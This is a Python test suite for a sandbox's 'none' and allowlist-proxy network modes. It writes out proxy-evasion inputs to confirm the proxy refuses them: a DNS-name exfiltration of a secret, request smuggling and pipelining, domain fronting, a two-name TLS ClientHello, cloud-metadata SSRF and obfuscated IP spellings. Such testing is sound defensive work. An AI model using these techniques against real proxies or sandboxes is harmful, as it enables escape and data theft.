#!/usr/bin/python3
"""Conformance: network modes none and proxy (THREATS.md "Network").

Mode none: every protocol and family. The test starts servers on the host's loopback (and on
its other addresses) and checks from the HOST side that none of them ever saw a connection or a
datagram from inside.

Mode proxy: the attacks on the allowlist proxy (DESIGN.md §6). Loopback servers stand in for
allowed and denied hosts; AGENTBOX_TEST_RESOLVE maps names to 127.0.0.1, so rules are tested by
name. Each test checks the server side too: a refused request must never have arrived.
"""

import json
import os
import re
import socket
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import abtest  # noqa: E402
from abtest import BoxTest, probe  # noqa: E402
import proxytest  # noqa: E402
from proxytest import inside_script, proxy_args, resolve_env  # noqa: E402

NET = probe("net")


def host_addresses():
    """Non-loopback IPv4 addresses of this host (where a service bound to 0.0.0.0 answers)."""
    addrs = set()
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect(("192.0.2.1", 9))  # no packet is sent; picks the outgoing address
        addrs.add(s.getsockname()[0])
        s.close()
    except OSError:
        pass
    return sorted(a for a in addrs if not a.startswith("127."))


class Servers:
    def __init__(self, tc):
        self.tc, self.tcp, self.udp = tc, [], []

    def add(self, family, kind, addr):
        s = socket.socket(family, kind)
        self.tc.addCleanup(s.close)
        s.bind((addr, 0))
        if kind == socket.SOCK_STREAM:
            s.listen(8)
            self.tcp.append(s)
        else:
            self.udp.append(s)
        s.setblocking(False)
        return s.getsockname()[1]

    def assertSilent(self):
        for s in self.tcp:
            try:
                conn, peer = s.accept()
            except BlockingIOError:
                continue
            conn.close()
            self.tc.fail("the host's TCP server %s was reached from %s" % (s.getsockname(), peer))
        for s in self.udp:
            try:
                data, peer = s.recvfrom(100)
            except BlockingIOError:
                continue
            self.tc.fail("the host's UDP server %s got %r from %s" % (s.getsockname(), data, peer))


class NetworkNone(BoxTest):
    def setUp(self):
        super().setUp()
        self.servers = Servers(self)
        self.mark = "MARK" + os.urandom(4).hex()

    def attempt(self, attempts, names):
        res = self.box.run([NET] + attempts)
        self.assertRc(res, 0)
        for name in names:
            got = res.errno_of(name)
            self.assertIsNotNone(got, "no result for %s\n%s" % (name, res))
            self.assertNotEqual(got, 0, "%s succeeded in network mode none\n%s" % (name, res))
        self.servers.assertSilent()
        return res

    def test_network_none_tcp(self):
        port = self.servers.add(socket.AF_INET, socket.SOCK_STREAM, "127.0.0.1")
        attempts = ["tcp4,127.0.0.1,%d,%s" % (port, self.mark)]
        for addr in host_addresses():
            p = self.servers.add(socket.AF_INET, socket.SOCK_STREAM, addr)
            attempts.append("tcp4,%s,%d,%s" % (addr, p, self.mark))
        res = self.box.run([NET] + attempts)
        self.assertRc(res, 0)
        self.assertNotIn("tcp4: ok", res.out, res)
        self.servers.assertSilent()

    def test_network_none_udp(self):
        port = self.servers.add(socket.AF_INET, socket.SOCK_DGRAM, "127.0.0.1")
        attempts = ["udp4,127.0.0.1,%d,%s" % (port, self.mark)]
        for addr in host_addresses():
            p = self.servers.add(socket.AF_INET, socket.SOCK_DGRAM, addr)
            attempts.append("udp4,%s,%d,%s" % (addr, p, self.mark))
        res = self.box.run([NET] + attempts)
        self.assertRc(res, 0)
        self.assertIn("udp4: ", res.out, res)
        # A datagram may be "sent" into the sandbox's own empty namespace; what matters is that
        # none arrives on the host.
        self.servers.assertSilent()

    def test_network_none_ipv6(self):
        if not socket.has_ipv6 or not os.path.exists("/proc/net/if_inet6"):
            self.skipTest("no IPv6 on this host")
        tcp = self.servers.add(socket.AF_INET6, socket.SOCK_STREAM, "::1")
        udp = self.servers.add(socket.AF_INET6, socket.SOCK_DGRAM, "::1")
        self.attempt(["tcp6,::1,%d,%s" % (tcp, self.mark), "udp6,::1,%d,%s" % (udp, self.mark)],
                     ["tcp6"])

    def test_network_none_raw_and_packet_sockets(self):
        self.attempt(["raw4", "packet"], ["raw4", "packet"])

    def test_network_none_only_loopback_interface(self):
        res = self.box.run([NET, "ifaces"])
        self.assertRc(res, 0)
        ifaces = [line.split()[1] for line in res.out.splitlines() if line.startswith("iface ")]
        self.assertEqual(ifaces, ["lo"], "interfaces other than lo inside\n%s" % res)

    def test_probe_works_without_sandbox_network(self):
        tcp = self.servers.add(socket.AF_INET, socket.SOCK_STREAM, "127.0.0.1")
        res = self.host_run([NET, "tcp4,127.0.0.1,%d,%s" % (tcp, self.mark)])
        self.assertIn("tcp4: ok", res.out, res)
        conn, _ = self.servers.tcp[0].accept()
        conn.setblocking(True)
        conn.settimeout(5)
        self.assertEqual(conn.recv(100), self.mark.encode())
        conn.close()


class NetworkProxyAttacks(BoxTest):
    def setUp(self):
        super().setUp()
        self.srv = proxytest.http_server(self)
        self.port = self.srv.port
        self.env = resolve_env({"allowed.test": "127.0.0.1", "evil.test": "127.0.0.1",
                                "allowed.test.evil.test": "127.0.0.1",
                                "metadata.test": "169.254.169.254", "ten.test": "10.0.0.1"})
        # The allowed name, and its loopback address on that one port (the address must be
        # named, or the private-address check refuses it).
        self.allow = proxy_args("allowed.test:%d" % self.port, "127.0.0.1:%d" % self.port)

    def run_inside(self, body, args=None, timeout=120):
        res = self.box.run(inside_script(self.box, "attack.py", body), args=args or self.allow,
                           env=self.env, timeout=timeout)
        self.assertRc(res, 0)
        return res

    def test_proxy_denied_name_gets_403_naming_the_rule(self):
        res = self.box.run(["curl", "-sS", "-i", "http://evil.test:%d/" % self.port],
                           args=self.allow, env=self.env)
        self.assertIn("403 Forbidden", res.out, res)
        self.assertIn('refused by network.unlisted "deny"', res.out, res)
        self.assertIn("X-Agentbox-Rule: network.unlisted", res.out, res)
        self.assertEqual(self.srv.hits, [], "a denied request reached the server")

    def test_direct_connect_ignoring_the_proxy_fails(self):
        tcp = socket.socket()
        self.addCleanup(tcp.close)
        tcp.bind(("127.0.0.1", 0))
        tcp.listen(8)
        tcp.setblocking(False)
        attempts = ["tcp4,127.0.0.1,%d,X" % self.port, "tcp4,127.0.0.1,%d,X" % tcp.getsockname()[1]]
        for addr in host_addresses():
            attempts.append("tcp4,%s,%d,X" % (addr, self.port))
        res = self.box.run([NET] + attempts, args=self.allow, env=self.env)
        self.assertRc(res, 0)
        self.assertNotIn("tcp4: ok", res.out, res)
        res = self.box.run(["curl", "-sS", "--noproxy", "*", "http://127.0.0.1:%d/" % self.port],
                           args=self.allow, env=self.env)
        self.assertNotEqual(res.rc, 0, res)
        self.assertEqual(self.srv.hits, [])
        self.assertRaises(BlockingIOError, tcp.accept)

    def test_dns_from_inside_fails(self):
        res = self.run_inside(r"""
try:
    print("resolved", socket.getaddrinfo("example.com", 443))
except OSError as e:
    print("getaddrinfo failed", e)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(2)
for ns in ("8.8.8.8", "127.0.0.53", "127.0.0.1"):
    try:
        u.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01", (ns, 53))
        a, src = u.recvfrom(512)
        print("answer from", ns, src, "rcode", a[3] & 0xf, "answers", a[7])
    except OSError as e:
        print("udp", ns, "failed", e)
""")
        self.assertNotIn("resolved", res.out, res)
        # Only the sandbox's own DNS (network.capture, test_capture.py) answers, and it knows
        # no name the rules do not allow: NXDOMAIN, no record.
        self.assertNotIn("answer from 8.8.8.8", res.out, res)
        self.assertNotIn("answer from 127.0.0.53", res.out, res)
        self.assertIn("answer from 127.0.0.1 ('127.0.0.1', 53) rcode 3 answers 0", res.out, res)
        self.assertIn("getaddrinfo failed", res.out, res)

    def test_tcp_listener_or_other_port_inside_proxy_mode(self):
        # The namespace is the boundary: the command may listen on its own loopback and
        # connect there (a dev server, a test suite), but every port it reaches is its own or
        # the proxy's; nothing else answers (ECONNREFUSED), nothing reaches the host.
        res = self.run_inside(r"""
import errno
s = socket.socket()
try:
    s.bind(("127.0.0.1", 5000)); s.listen(); print("bind ok")
except OSError as e:
    print("bind errno", e.errno)
for port in (3128, 5000, 80):
    c = socket.socket()
    try:
        c.connect(("127.0.0.1", port)); print(port, "ok")
    except OSError as e:
        print(port, "errno", e.errno)
""")
        self.assertIn("bind ok", res.out, res)
        self.assertIn("3128 ok", res.out, res)
        self.assertIn("5000 ok", res.out, res)
        self.assertIn("80 errno 111", res.out, res)

    def test_dns_as_a_channel_through_the_proxy_resolver(self):
        # A denied name is refused before anything is resolved: encoding data in names the
        # proxy would look up does not reach any DNS server. The refusal names the host rule,
        # and no resolution error shows up for the denied names (nothing was looked up).
        secret = "c2VjcmV0" + os.urandom(6).hex()
        argv = self.box.argv(inside_script(self.box, "exfil.py", r"""
for name in ("%s.exfil.example.com:443", "%s.example.net:80"):
    print(name, raw(b"CONNECT " + name.encode() + b" HTTP/1.1\r\n\r\n", read_all=True))
""" % (secret, secret)), args=self.allow)
        argv[argv.index("-q")] = "-v"
        res = self.box.run(None, argv=argv, env=self.env)
        self.assertRc(res, 0)
        self.assertEqual(res.out.count("403 Forbidden"), 2, res)
        self.assertEqual(res.out.count('refused by network.unlisted "deny"'), 2, res)
        self.assertEqual(len(re.findall(r'net.connect .*verdict="deny"', res.err)), 2, res)
        self.assertNotIn("error=", res.err, res)

    def test_crafted_host_names_that_look_allowed(self):
        p = self.port
        cases = {
            # name -> expected status: the canonical spellings of the allowed name pass...
            "ALLOWED.TEST:%d" % p: "200", "allowed.test.:%d" % p: "200",
            # ...names built to look like it do not
            "allowed.test.evil.test:%d" % p: "403", "evil.test:%d" % p: "403",
            "allowed.test..:%d" % p: "403", "allowed.test%%2eevil.test:%d" % p: "403",
            "xn--allowed.test:%d" % p: "403", "allowed.test:%d" % (p + 1): "403",
            # IP spellings of 127.0.0.1 other than the dotted quad are refused as ambiguous
            "2130706433:%d" % p: "403", "0x7f.1:%d" % p: "403", "127.1:%d" % p: "403",
            "0177.0.0.1:%d" % p: "403", "[::ffff:127.0.0.1]:%d" % p: "403",
        }
        res = self.run_inside("\n".join(
            "print(%r, status(b'GET http://%s/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'))" % (k, k)
            for k in cases) + "\n" + "\n".join(
            "print('userinfo', %r, status(b'%s'))" % (t, t) for t in (
                "GET http://allowed.test:%d@evil.test:%d/ HTTP/1.1\\r\\n\\r\\n" % (p, p),
                "CONNECT allowed.test@evil.test:%d HTTP/1.1\\r\\n\\r\\n" % p)))
        for name, want in cases.items():
            m = re.search(r"^%s (\S+)$" % re.escape(name), res.out, re.M)
            self.assertIsNotNone(m, "no result for %s\n%s" % (name, res))
            self.assertEqual(m.group(1), want, "%s: got %s, expected %s\n%s" % (
                name, m.group(1), want, res))
        self.assertEqual(re.findall(r"^userinfo .* (\S+)$", res.out, re.M), ["400", "400"], res)
        # Only the canonical spellings reached the server, and with the checked Host.
        self.assertEqual(len(self.srv.hits), 2, self.srv.hits)
        for _, _, host in self.srv.hits:
            self.assertEqual(host.lower().split(":")[0].rstrip("."), "allowed.test")

    def test_allowed_name_resolving_to_internal_address_refused(self):
        # Only the names are allowed, not the addresses they resolve to.
        args = proxy_args("allowed.test:%d" % self.port, "metadata.test:80", "ten.test:80")
        res = self.run_inside(
            "print('loopback', status(b'GET http://allowed.test:%d/ HTTP/1.1\\r\\n\\r\\n'))\n"
            "print('metadata', raw(b'GET http://metadata.test/latest/meta-data/ HTTP/1.1\\r\\n\\r\\n'))\n"
            "print('private', status(b'CONNECT ten.test:80 HTTP/1.1\\r\\n\\r\\n'))\n" % self.port,
            args=args)
        self.assertIn("loopback 403", res.out, res)
        self.assertIn("private 403", res.out, res)
        self.assertIn("cloud metadata (169.254.169.254)", res.out, res)
        self.assertIn("network.allow_private false", res.out, res)
        self.assertEqual(self.srv.hits, [])

    def test_malformed_and_oversized_requests_get_400_and_proxy_stays_up(self):
        res = self.run_inside(r"""
tests = [
    ("garbage", b"GARBAGE\r\n\r\n"),
    ("binary", bytes(range(1, 40)) + b"\r\n\r\n"),
    ("bare-lf", b"GET http://allowed.test:PORT/ HTTP/1.1\nHost: x\n\n"),
    ("oversized", b"GET http://allowed.test:PORT/ HTTP/1.1\r\nX: " + b"a" * 200000 + b"\r\n\r\n"),
    ("smuggle", b"POST http://allowed.test:PORT/ HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
    ("origin-form", b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
    ("bad-chunk", b"POST http://allowed.test:PORT/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n"),
]
for name, data in tests:
    try:
        print(name, status(data.replace(b"PORT", b"%d")))
    except OSError as e:
        print(name, "error", e)
print("after", status(b"GET http://allowed.test:%d/ HTTP/1.1\r\n\r\n"))
""".replace("%d", str(self.port)))
        for name in ("garbage", "binary", "bare-lf", "oversized", "smuggle", "origin-form"):
            self.assertIn("%s 400" % name, res.out, res)
        # A broken body is noticed only after the request went upstream: the connection is
        # closed instead (no status line), and the proxy goes on.
        self.assertRegex(res.out, r"bad-chunk (none|error|400)", res)
        self.assertIn("after 200", res.out, res)

    def test_forbidden_request_pipelined_behind_an_allowed_one_is_refused(self):
        # Keep-alive: after an allowed request's body (chunked, with a chunk large enough to be
        # spliced, whose data spells a request of its own) and response (likewise), a second
        # request for a denied host follows on the same connection, in the same write. The
        # body must end exactly where its framing ends, so that the next request is parsed and
        # judged: the denied host never sees it, the allowed one sees each body whole.
        p = self.port
        decoy = b"0\r\n\r\nGET http://evil.test:%d/in-data HTTP/1.1\r\n\r\n" % p
        data = decoy + b"a" * (65536 - len(decoy))
        res = self.run_inside(r"""
P = %d
data = %r
post = (b"POST http://allowed.test:%%d/upload HTTP/1.1\r\nHost: allowed.test:%%d\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n%%x\r\n" %% (P, P, len(data)) + data +
        b"\r\n5\r\nhello\r\n0\r\n\r\n")
evil = b"GET http://evil.test:%%d/pipelined HTTP/1.1\r\nHost: evil.test\r\n\r\n" %% P
out = raw(post + evil)
print("post", out.count(b"HTTP/1.1 200"), out.count(b"got %%d bytes" %% (len(data) + 5)),
      out.count(b"HTTP/1.1 403"), out.count(b"X-Agentbox-Rule: network.unlisted"))
big = b"GET http://allowed.test:%%d/bigchunk/100000 HTTP/1.1\r\nHost: allowed.test\r\n\r\n" %% P
out = raw(big + evil)
head, _, rest = out.partition(b"\r\n\r\n")
body, _, after = rest.partition(b"\r\n0\r\n\r\n")
print("big", head.startswith(b"HTTP/1.1 200"), body == b"186a0\r\n" + b"y" * 100000,
      after.startswith(b"HTTP/1.1 403"), after.count(b"X-Agentbox-Rule: network.unlisted"))
""" % (p, data))
        self.assertIn("post 1 1 1 1", res.out, res)
        self.assertIn("big True True True 1", res.out, res)
        self.assertEqual([(m, path) for m, path, _ in self.srv.hits],
                         [("POST", "/upload"), ("GET", "/bigchunk/100000")], self.srv.hits)
        for _, _, host in self.srv.hits:
            self.assertEqual(host.split(":")[0], "allowed.test")

    def test_domain_fronting_through_an_allowed_connect(self):
        # CONNECT to the allowed name, then TLS for another name (the SNI, and the Host the
        # server sees): what curl --connect-to does, and what fronting through a CDN is. The
        # tunnel is closed before the server gets a request; the allowed name still works.
        tls = proxytest.tls_server(self, proxytest.tmpdir(self), ["allowed.test", "evil.test"])
        args = proxy_args("allowed.test:%d" % tls.port, "127.0.0.1:%d" % tls.port)
        fronted = ["curl", "-sSk", "--connect-to",
                   "evil.test:%d:allowed.test:%d" % (tls.port, tls.port),
                   "https://evil.test:%d/x" % tls.port]
        res = self.box.run(fronted, args=args, env=self.env)
        self.assertNotEqual(res.rc, 0, res)
        self.assertEqual(tls.hits, [], "a request for another name went through the tunnel")
        with open(os.path.join(self.box.sessions()[-1], "log.jsonl")) as f:
            log = [json.loads(line) for line in f if line.strip()]
        errors = [e for e in log if e["event"] == "net.error"]
        self.assertEqual(len(errors), 1, log)
        self.assertIn('"evil.test" is not the CONNECT host', errors[0]["reason"])
        self.assertEqual((errors[0]["host"], errors[0]["port"]), ("allowed.test", tls.port))
        res = self.box.run(["curl", "-sSk", "https://allowed.test:%d/x" % tls.port], args=args,
                           env=self.env)
        self.assertRc(res, 0)
        self.assertIn("hello over TLS", res.out, res)

    def test_client_hello_naming_two_hosts_never_reaches_upstream(self):
        # One server_name list with the allowed name first and another second: a parser that
        # judges only the first lets the upstream (or a CDN behind it) serve the second. The
        # hello must be refused before any byte of it goes upstream; an echo server would send
        # it back if it had arrived.
        echo = proxytest.TcpServer(self, "echo")
        args = proxy_args("allowed.test:%d" % echo.port, "127.0.0.1:%d" % echo.port)
        res = self.run_inside(r"""
def vec(b, n):
    return len(b).to_bytes(n, "big") + b
def hello(names):
    entries = b"".join(b"\x00" + vec(n, 2) for n in names)
    sni = b"\x00\x00" + vec(vec(entries, 2), 2)
    body = (b"\x03\x03" + b"r" * 32 + vec(b"", 1) + vec(b"\x13\x01", 2) + vec(b"\x00", 1)
            + vec(sni, 2))
    msg = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + vec(msg, 2)
for label, names in (("two", [b"allowed.test", b"evil.test"]), ("one", [b"allowed.test"])):
    s = socket.create_connection(PROXY, timeout=30)
    s.sendall(b"CONNECT allowed.test:%d HTTP/1.1\r\n\r\n")
    read_head(s)
    s.sendall(hello(names) + b"\n")  # the echo server answers line by line
    got = b""
    try:
        while len(got) < 5:
            b = s.recv(4096)
            if not b:
                break
            got += b
    except OSError:
        pass
    print(label, "echoed" if got.startswith(b"\x16\x03") else "refused")
""" % echo.port, args=args)
        self.assertIn("two refused", res.out, res)
        self.assertIn("one echoed", res.out, res)  # the same hello with one name goes through

    def test_thousand_concurrent_connections(self):
        echo = proxytest.TcpServer(self, "echo")
        args = proxy_args("allowed.test:%d" % echo.port, "127.0.0.1:%d" % echo.port)
        res = self.run_inside(r"""
import resource
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
N = 1000
socks = []
for i in range(N):
    s = socket.create_connection(PROXY, timeout=60)
    s.sendall(b"CONNECT allowed.test:%d HTTP/1.1\r\n\r\n")
    socks.append(s)
ok = 0
for i, s in enumerate(socks):
    if read_head(s).startswith(b"HTTP/1.1 200"):
        s.sendall(b"ping %%d\n" %% i)
for i, s in enumerate(socks):
    if s.recv(100) == b"ping %%d\n" %% i:
        ok += 1
print("ok", ok)
""" % echo.port, args=args, timeout=300)
        self.assertIn("ok 1000", res.out, res)
        self.assertEqual(echo.accepted, 1000)

    def test_client_that_never_reads_does_not_grow_the_proxy(self):
        hose = proxytest.TcpServer(self, "firehose")
        args = proxy_args("allowed.test:%d" % hose.port, "127.0.0.1:%d" % hose.port,
                          "allowed.test:%d" % self.port, "127.0.0.1:%d" % self.port)
        script = inside_script(self.box, "stall.py", r"""
s = socket.create_connection(PROXY)
s.sendall(b"CONNECT allowed.test:%d HTTP/1.1\r\n\r\n")
time.sleep(4)   # never read: the firehose fills every buffer on the way
print("other", status(b"GET http://allowed.test:%d/ HTTP/1.1\r\n\r\n"), flush=True)
time.sleep(2)
""" % (hose.port, self.port))
        p = self.box.popen(script, args=args, env=self.env)
        peak = 0
        deadline = time.monotonic() + 60
        while p.poll() is None and time.monotonic() < deadline:
            try:
                with open("/proc/%d/status" % p.pid) as f:
                    for line in f:
                        if line.startswith("VmRSS:"):
                            peak = max(peak, int(line.split()[1]))
            except OSError:
                pass
            time.sleep(0.2)
        out, err = p.communicate(timeout=60)
        self.assertEqual(p.returncode, 0, err)
        self.assertIn(b"other 200", out, err)
        self.assertGreater(hose.accepted, 0)
        # What the stalled client did not read stays in socket buffers (bounded by the kernel),
        # not in the proxy: agentbox stays small.
        self.assertLess(peak, 64 * 1024, "agentbox grew to %d KiB" % peak)
        self.assertLess(hose.sent, 64 * 1024 * 1024, "the proxy kept reading: %d bytes" % hose.sent)


@proxytest.only("test_proxy_denied_name_gets_403_naming_the_rule",
                 "test_malformed_and_oversized_requests_get_400_and_proxy_stays_up",
                 "test_forbidden_request_pipelined_behind_an_allowed_one_is_refused",
                 "test_domain_fronting_through_an_allowed_connect",
                 "test_thousand_concurrent_connections",
                 "test_client_that_never_reads_does_not_grow_the_proxy")
class NetworkProxyAttacksPortable(proxytest.PortableNet, NetworkProxyAttacks):
    """The attacks that move bytes through the proxy's pump or wake its supervisor, again on
    its portable I/O (what macOS runs; AGENTBOX_TEST_PORTABLE_NET=1). The others test policy,
    which is the same code either way."""


if __name__ == "__main__":
    abtest.main()
